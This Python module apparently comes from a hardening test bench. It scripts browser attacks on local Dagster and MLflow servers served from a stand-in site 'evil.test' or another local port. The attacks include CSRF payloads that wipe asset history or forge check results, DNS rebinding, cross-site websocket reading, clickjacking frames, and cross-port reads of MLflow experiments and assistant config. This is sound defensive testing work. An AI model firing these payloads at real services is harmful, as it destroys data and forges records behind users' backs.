"""What a page in the reader's browser tries: of another site, of another port, under a bound name."""

import time
from collections.abc import Callable, Iterator
from urllib.parse import quote, urlencode, urlsplit

import dagster as dg

from twig_assets.bench.hardening.attack import ASSET, CHECK, CHECKED, Attack, Target

_WIPE = f'mutation {{ wipeAssets(assetPartitionRanges: [{{assetKey: {{path: ["{ASSET}"]}}}}]) {{ __typename }} }}'
_QUERY = f"/graphql?query={quote(_WIPE)}"
_FORGED = urlencode({"check_name": CHECK, "passed": "true"})
_PATIENCE_MS = 15_000
_SUBMIT = "<script>document.forms[0].submit()</script>"
_TRICK = "text/plain; boundary=application/json"
# From where the page comes: another site, another port of this machine.
_ELSEWHERE, _NEXT_DOOR = "evil.test", "127.0.0.1"


def attacks() -> Iterator[Attack]:
    """All of them."""
    yield from _wiping()
    yield from _forging()
    yield from _reading()
    yield from _mlflow()


def _wiping() -> Iterator[Attack]:
    body = f"JSON.stringify({{query: {_WIPE!r}}})"
    ways = {
        "a bodiless POST with the mutation in its address": _fetch("TARGET" + _QUERY),
        "a picture whose address is the mutation": f"<img src='TARGET{_QUERY}'>",
        "a script whose address is the mutation": f"<script src='TARGET{_QUERY}'></script>",
        "a style sheet whose address is the mutation": f"<link rel=stylesheet href='TARGET{_QUERY}'>",
        "a video whose address is the mutation": f"<video src='TARGET{_QUERY}' autoplay></video>",
        "a form that sends itself": f"<form method=post action='TARGET{_QUERY}'></form>{_SUBMIT}",
        "a form of plain text": f"<form method=post enctype=text/plain action='TARGET{_QUERY}'><input name=a value=b>"
        f"</form>{_SUBMIT}",
        "JSON that calls itself plain text": _fetch("TARGET/graphql", _sent(body, _TRICK)),
        "a beacon sent while the page closes": f"<script>navigator.sendBeacon('TARGET{_QUERY}')</script>",
        "a frame without an origin": "<iframe sandbox='allow-scripts' srcdoc=\"<script>fetch('TARGET"
        + _QUERY
        + "', {method: 'POST', mode: 'no-cors'})</script>\"></iframe>",
        "a ping of a link": f"<a id=a href='#' ping='TARGET{_QUERY}'>a</a><script>a.click()</script>",
    }
    for name, html in ways.items():
        yield Attack(f"an asset's history is wiped by {name}", "Dagster, another site", _wipes(_ELSEWHERE, html))
    for name in ("a bodiless POST with the mutation in its address", "JSON that calls itself plain text"):
        title = f"an asset's history is wiped by {name}, from another port of this machine"
        yield Attack(title, "Dagster, another port", _wipes(_NEXT_DOOR, ways[name]))


def _forging() -> Iterator[Attack]:
    check = _fetch(f"TARGET/report_asset_check/{CHECKED}?{_FORGED}")
    yield Attack("a passed check is forged by a bodiless POST", "Dagster, another site", _told(check, _check_is_there))
    made = _fetch(f"TARGET/report_asset_materialization/{ASSET}?description=forged")
    yield Attack("a release is forged by a bodiless POST", "Dagster, another site", _told(made, _forgery_is_there))
    seen = _fetch(f"TARGET/report_asset_observation/{ASSET}?description=forged")
    yield Attack("an observation is forged by a bodiless POST", "Dagster, another site", _told(seen, _sight_is_there))


def _reading() -> Iterator[Attack]:
    yield Attack("Dagster is driven under a name that was bound to this machine", "Dagster, DNS rebinding", _rebound)
    yield Attack("runs are read over a websocket of another site", "Dagster, another site", _websocket)
    yield Attack("Dagster is shown in a frame, for clicks to be stolen", "Dagster, another site", _framed)


def _mlflow() -> Iterator[Attack]:
    create = "TARGET/api/2.0/mlflow/experiments/create"
    script = _fetch(create, _sent("JSON.stringify({name: 'NAME'})", "application/json"), "cors")
    yield Attack("an experiment is made from another port", "MLflow, another port", _experiment(script))
    search = "TARGET/api/2.0/mlflow/experiments/search?max_results=5"
    yield Attack("experiments are read from another port", "MLflow, another port", _got(_read(search), "experiments"))
    config = "TARGET/ajax-api/3.0/mlflow/assistant/config"
    name = "the assistant that runs commands is asked from another port"
    yield Attack(name, "MLflow, another port", _got(_read(config), "{"))


def _sent(body: str, kind: str) -> str:
    return f"body: {body}, headers: {{'Content-Type': '{kind}'}}"


def _read(address: str) -> str:
    answer = "then(r => r.text()).then(t => window.got = t).finally(() => window.done = 1)"
    return f"<script>fetch('{address}').{answer}</script>"


def _fetch(address: str, more: str = "", mode: str = "no-cors") -> str:
    return (
        f"<script>fetch(`{address}`, {{method: 'POST', mode: '{mode}', {more}}})"
        ".catch(() => 0).finally(() => window.done = 1)</script>"
    )


def _wipes(host: str, html: str) -> Callable[[Target], bool]:
    def harms(target: Target) -> bool:
        target.instance.report_runless_asset_event(dg.AssetMaterialization(ASSET))
        _open(target, host, html.replace("TARGET", target.dagster), lambda: _is_wiped(target))
        return _is_wiped(target)

    return harms


def _told(html: str, happened: Callable[[Target], bool]) -> Callable[[Target], bool]:
    def harms(target: Target) -> bool:
        _open(target, _ELSEWHERE, html.replace("TARGET", target.dagster), lambda: happened(target))
        return happened(target)

    return harms


def _is_wiped(target: Target) -> bool:
    return not target.instance.fetch_materializations(dg.AssetKey(ASSET), limit=1).records


def _check_is_there(target: Target) -> bool:
    key = dg.AssetCheckKey(dg.AssetKey(CHECKED), CHECK)
    history = target.instance.event_log_storage.get_asset_check_execution_history(key, limit=1)
    return bool(history)


def _forgery_is_there(target: Target) -> bool:
    records = target.instance.fetch_materializations(dg.AssetKey(ASSET), limit=5).records
    made = [record.asset_materialization for record in records]
    return any(event is not None and event.description == "forged" for event in made)


def _sight_is_there(target: Target) -> bool:
    return bool(target.instance.fetch_observations(dg.AssetKey(ASSET), limit=1).records)


def _rebound(target: Target) -> bool:
    target.instance.report_runless_asset_event(dg.AssetMaterialization(ASSET))
    script = (
        "query => fetch('/graphql', {method: 'POST', headers: {'Content-Type': 'application/json'}, "
        "body: JSON.stringify({query})}).then(r => r.text())"
    )
    context = target.browser.new_context()
    try:
        page = context.new_page()
        # The page that the name led to before it was bound to this machine is of the same origin.
        page.goto(f"http://rebound.test:{urlsplit(target.dagster).port}/server_info")
        page.evaluate(script, _WIPE)
    finally:
        context.close()
    return _is_wiped(target)


def _websocket(target: Target) -> bool:
    address = target.dagster.replace("http", "ws") + "/graphql"
    script = (
        f"<script>const s = new WebSocket('{address}', 'graphql-ws'); s.onopen = () => s.send('{{\"type\": "
        '"connection_init"}\'); s.onmessage = m => { window.got = m.data; window.done = 1 }; '
        "s.onerror = s.onclose = () => window.done = 1</script>"
    )
    return "connection_ack" in _open(target, _ELSEWHERE, script)


def _framed(target: Target) -> bool:
    address = f"{target.dagster}/runs"
    context = target.browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"http://{_ELSEWHERE}:{target.evil.port}" + target.evil.page(f"<iframe src='{address}'></iframe>"))
        page.wait_for_timeout(1500)
        frames = [frame for frame in page.frames if frame.url.startswith(address)]
        return any(frame.evaluate("document.scripts.length") > 0 for frame in frames)
    finally:
        context.close()


def _experiment(html: str) -> Callable[[Target], bool]:
    def harms(target: Target) -> bool:
        from mlflow import MlflowClient

        name = f"stolen-{time.monotonic_ns()}"
        _open(target, _NEXT_DOOR, html.replace("TARGET", target.mlflow).replace("NAME", name))
        return MlflowClient(f"sqlite:///{target.home / 'mlflow.db'}").get_experiment_by_name(name) is not None

    return harms


def _got(html: str, wanted: str) -> Callable[[Target], bool]:
    def harms(target: Target) -> bool:
        return wanted in _open(target, _NEXT_DOOR, html.replace("TARGET", target.mlflow))

    return harms


def _open(target: Target, host: str, html: str, happened: Callable[[], bool] = lambda: False) -> str:
    """Open the attacker's page, give it time, and return what it got hold of."""
    context = target.browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"http://{host}:{target.evil.port}" + target.evil.page(html), wait_until="load")
        deadline = time.monotonic() + _PATIENCE_MS / 1000
        settled = 0
        while not happened() and settled < 5 and time.monotonic() < deadline:
            page.wait_for_timeout(300)
            settled += bool(page.evaluate("window.done ? 1 : 0")) or not html.count("window.done")
        return str(page.evaluate("window.got || ''"))
    finally:
        context.close()
